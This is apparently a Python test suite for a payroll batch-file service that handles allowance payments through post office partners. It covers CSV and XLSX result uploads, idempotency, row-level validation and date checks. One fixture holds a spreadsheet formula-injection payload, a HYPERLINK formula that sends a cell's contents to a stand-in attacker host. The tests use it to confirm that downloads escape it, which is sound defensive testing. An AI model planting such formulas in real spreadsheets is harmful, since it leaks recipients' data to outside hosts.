"""Results uploaded as the batch file filled in: applied whole, or not at all with row-level problems."""

import csv
import io
import json
import uuid
import zipfile
from datetime import timedelta

import openpyxl

from common import clock

from .helpers import batches, feed, lines, maker, partner, period, run, schedule

ALLOWANCE = "monthly_allowance"
TODAY, TODAY_DMY = clock.today().isoformat(), clock.today().strftime("%d/%m/%Y")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


async def batch_file(app, http, minter):
    await feed(app, *(schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)]) for _ in range(3)))
    payroll = await run(http, minter, ALLOWANCE, "2026-03")
    batch = (await batches(http, minter, payroll))["84101"]
    r = await http.get(f"/batches/{batch['id']}/download", params={"format": "csv"}, headers=partner(minter))
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    return payroll, batch, rows


def fill(rows, *results):
    """Fill the result columns of the data rows (header row kept)."""
    out = [list(rows[0])] + [list(r) for r in rows[1:]]
    for i, result in enumerate(results, start=1):
        if result is not None:
            out[i][12:18] = result
    return out


def as_csv(rows, encoding="utf-8-sig"):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode(encoding, errors="replace")


async def upload(http, minter, batch, body, content_type="text/csv", **headers):
    return await http.post(
        f"/batches/{batch['id']}/results/file",
        content=body,
        headers=partner(minter) | {"Content-Type": content_type, **headers},
    )


async def test_a_csv_filled_in_is_recorded_and_a_second_upload_changes_nothing(app, http, minter):
    payroll, batch, rows = await batch_file(app, http, minter)
    filled = fill(
        rows,
        ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-001", "750.000", ""],
        ["da chi tra", TODAY, "Trần Văn Con", "BN-002", "750000", ""],
        None,
    )
    r = await upload(http, minter, batch, as_csv(filled), **{"Idempotency-Key": "file-1"})
    assert r.status_code == 200, r.text
    assert (r.json()["recorded"], r.json()["batch"]["status"], r.json()["batch"]["paid_amount"]) == (
        2,
        "reporting",
        1_500_000,
    )
    again = await upload(http, minter, batch, as_csv(filled), **{"Idempotency-Key": "file-1"})
    assert again.json() == r.json() and again.headers["idempotent-replayed"] == "true"
    # The file downloaded now shows the results; uploaded again (no key) it records nothing new.
    r = await http.get(f"/batches/{batch['id']}/download", params={"format": "csv"}, headers=partner(minter))
    now = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert now[2][12:17] == ["Đã chi trả", TODAY_DMY, "Trần Văn Con", "BN-002", "750000"]
    r = await upload(http, minter, batch, as_csv(now))
    assert (r.json()["recorded"], r.json()["unchanged"], r.json()["exceptions"]) == (0, 2, 0)


async def test_an_xlsx_filled_in_is_recorded(app, http, minter):
    payroll, batch, _ = await batch_file(app, http, minter)
    r = await http.get(f"/batches/{batch['id']}/download", params={"format": "xlsx"}, headers=partner(minter))
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    sheet = book.worksheets[0]
    sheet.cell(2, 13, "Chưa chi trả")
    sheet.cell(2, 18, "Đi viện")
    sheet.cell(3, 13, "Trả lại")
    sheet.cell(3, 18, "Đã chuyển đi nơi khác")
    out = io.BytesIO()
    book.save(out)
    r = await upload(http, minter, batch, out.getvalue(), XLSX)
    assert r.status_code == 200, r.text
    assert (r.json()["batch"]["unpaid_count"], r.json()["batch"]["returned_count"]) == (1, 1)


async def test_bad_files_get_row_level_problems_and_nothing_is_applied(app, http, minter):
    payroll, batch, rows = await batch_file(app, http, minter)
    ok = ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-001", "750000", ""]

    async def refused(body, content_type="text/csv"):
        r = await upload(http, minter, batch, body, content_type)
        assert r.status_code == 422, r.text
        assert r.headers["content-type"] == "application/problem+json"
        return r.json()

    # Wrong headers: a result column missing, an unknown one.
    header = [h if h != "Số biên nhận" else "Biên lai" for h in rows[0]]
    problem = await refused(as_csv([header] + fill(rows, ok)[1:]))
    assert {(e["line"], e["column"]) for e in problem["errors"]} == {(1, "Biên lai"), (1, "receipt_number")}
    # An unknown line, negative and fractional amounts, a bad date, a proxy missing for the payment, all reported.
    bad = fill(
        rows,
        ok,
        ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-002", "-750000", ""],
        ["Đã chi trả", "31/02/2026", "Người hưởng", "BN-003", "750000.5", ""],
    )
    bad.append(["4", str(uuid.uuid4()), "", "", "", "84101", "750000", "", "", "", "", "", *ok])
    bad.append(["5", rows[1][1], "", "", "", "84101", "750000", "", "", "", "", "", *ok])
    problem = await refused(as_csv(bad))
    assert problem["type"].endswith("/file-problems")
    found = {(e["line"], e["column"]) for e in problem["errors"]}
    assert found == {(3, "Số tiền đã chi"), (4, "Ngày chi trả"), (4, "Số tiền đã chi"), (6, "Mã dòng")}
    assert "negative" in next(e["reason"] for e in problem["errors"] if e["line"] == 3)
    assert "whole" in next(e["reason"] for e in problem["errors"] if e["line"] == 4 and e["column"] == "Số tiền đã chi")
    # The unknown line is found once the cells are right.
    fixed = fill(rows, ok)
    fixed.append(["4", str(uuid.uuid4()), "", "", "", "84101", "750000", "", "", "", "", "", *ok])
    problem = await refused(as_csv(fixed))
    assert [(e["line"], e["column"]) for e in problem["errors"]] == [(5, "Mã dòng")]
    assert "not a line of this batch" in problem["errors"][0]["reason"]
    # What an outcome needs.
    problem = await refused(as_csv(fill(rows, ["Chưa chi trả", "", "", "", "", ""])))
    assert problem["errors"][0]["line"] == 2 and "reason" in problem["errors"][0]["reason"]
    # Wrong encoding (Windows-1258 from an old Excel), not a spreadsheet.
    legacy = as_csv(fill(rows, ok), "cp1258")
    problem = await refused(legacy)
    assert "UTF-8" in problem["errors"][0]["reason"] and "line 1" in problem["errors"][0]["reason"]
    await refused(b"PK\x03\x04 not really a workbook", XLSX)
    # Nothing was applied by any of them.
    r = await http.get(f"/batches/{batch['id']}", headers=partner(minter))
    assert (r.json()["status"], r.json()["paid_count"]) == ("ready", 0)
    report = (await http.get("/ledger/totals", params={"year": 2026}, headers=maker(minter))).json()["total"]
    assert report["paid"] == 0
    assert len(await lines(http, minter, payroll)) == 3


ATTACK = '=HYPERLINK("http://evil.example/?d="&D2,"Xem")'


async def test_formula_like_values_are_escaped_in_downloads_and_the_files_upload_again_unchanged(app, http, minter):
    """A name imported as a formula comes out as text (CSV: a quote in front; XLSX: a string cell, never <f>), and
    the post office's re-upload of what it downloaded reads the values as they were written."""
    await feed(
        app,
        schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name=ATTACK),
        schedule(uuid.uuid4(), 1, [period("2024-07", None, 750_000)], name="-Nguyễn Văn B"),
    )
    payroll = await run(http, minter, ALLOWANCE, "2026-03")
    batch = (await batches(http, minter, payroll))["84101"]
    url = f"/batches/{batch['id']}/download"
    rows = list(
        csv.reader(
            io.StringIO(
                (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig")
            )
        )
    )
    assert sorted(r[2] for r in rows[1:]) == sorted(["'" + ATTACK, "'-Nguyễn Văn B"])
    assert all(r[6] == "750000" for r in rows[1:])  # amounts stay numbers
    filled = fill(
        rows,
        ["Đã chi trả", TODAY_DMY, "-Trần Văn Con", "+84-001", "750000", ""],
        ["Chưa chi trả", "", "", "", "", "@nhà vắng"],
    )
    r = await upload(http, minter, batch, as_csv(filled))
    assert r.status_code == 200 and r.json()["recorded"] == 2, r.text
    document = json.loads((await http.get(url, params={"format": "json"}, headers=partner(minter))).content)
    stored = {x["line_id"]: x for x in document["lines"]}
    assert stored[rows[1][1]]["result"]["proxy_name"] == "-Trần Văn Con"
    assert stored[rows[1][1]]["result"]["receipt_number"] == "+84-001"
    assert stored[rows[2][1]]["result"]["reason"] == "@nhà vắng"

    # Downloaded now, the results are escaped too; uploaded as they are, they change nothing.
    now = list(
        csv.reader(
            io.StringIO(
                (await http.get(url, params={"format": "csv"}, headers=partner(minter))).content.decode("utf-8-sig")
            )
        )
    )
    assert now[1][14:16] == ["'-Trần Văn Con", "'+84-001"] and now[2][17] == "'@nhà vắng"
    r = await upload(http, minter, batch, as_csv(now))
    assert (r.status_code, r.json()["recorded"], r.json()["unchanged"], r.json()["exceptions"]) == (200, 0, 2, 0)

    body = (await http.get(url, params={"format": "xlsx"}, headers=partner(minter))).content
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and "HYPERLINK" in xml
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    names = sorted(row[2] for row in sheet.iter_rows(min_row=2, values_only=True))
    assert names == sorted(["'" + ATTACK, "'-Nguyễn Văn B"])
    assert all(isinstance(row[6], int) for row in sheet.iter_rows(min_row=2, values_only=True))
    r = await upload(http, minter, batch, body, XLSX)
    assert (r.status_code, r.json()["recorded"], r.json()["unchanged"]) == (200, 0, 2), r.text


async def test_a_paid_on_in_the_future_or_before_the_batch_is_a_row_level_problem(app, http, minter):
    payroll, batch, rows = await batch_file(app, http, minter)
    yesterday = (clock.today() - timedelta(days=1)).strftime("%d/%m/%Y")
    filled = fill(
        rows,
        ["Đã chi trả", TODAY_DMY, "Người hưởng", "BN-001", "750000", ""],
        ["Đã chi trả", "01/01/2099", "Người hưởng", "BN-002", "750000", ""],
        ["Đã chi trả", yesterday, "Người hưởng", "BN-003", "750000", ""],
    )
    r = await upload(http, minter, batch, as_csv(filled))
    assert r.status_code == 422, r.text
    assert r.json()["type"].endswith("/file-problems")
    found = {(e["line"], e["column"]): e["reason"] for e in r.json()["errors"]}
    assert sorted(found) == [(3, "Ngày chi trả"), (4, "Ngày chi trả")]
    assert "in the future" in found[(3, "Ngày chi trả")]
    assert "before the batch was issued" in found[(4, "Ngày chi trả")]
    got = (await http.get(f"/batches/{batch['id']}", headers=partner(minter))).json()
    assert got["paid_count"] == 0
